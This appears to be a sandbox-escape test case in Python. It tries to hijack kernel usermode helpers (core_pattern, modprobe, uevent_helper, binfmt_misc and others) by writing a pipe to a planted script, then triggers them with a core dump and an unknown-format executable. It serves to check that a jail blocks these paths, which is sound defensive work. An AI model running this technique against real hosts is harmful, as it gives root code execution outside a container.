# Tries: to name a program that the kernel runs as root on the host: core_pattern, modprobe,
# uevent_helper, binfmt_misc; and to set off what asks for it.
# Stopped by: no /proc and no /sys in the jail, read-only mounts, the seccomp filter.
import os
import signal

HELPERS = ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
           "/proc/sys/kernel/hotplug", "/sys/kernel/uevent_helper",
           "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/poweroff_cmd",
           "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/proc/sys/vm/overcommit_memory")
with open("/tmp/helper", "w") as file:
    file.write(f"#!/bin/sh\necho mine > {context['host_file']}\n")
os.chmod("/tmp/helper", 0o755)
for path in HELPERS:
    try:
        with open(path, "w") as file:
            file.write("|/tmp/helper")
        print("BREACH: wrote", path)
    except OSError as refusal:
        print(refusal)
if os.fork() == 0:
    os.kill(os.getpid(), signal.SIGABRT)
os.wait()
with open("/tmp/unknown", "wb") as file:
    file.write(b"\xff\xff\xff\xff" * 32)  # no known format: the kernel asks modprobe for one
os.chmod("/tmp/unknown", 0o755)
try:
    os.execv("/tmp/unknown", ["x"])
except OSError as refusal:
    print(refusal)
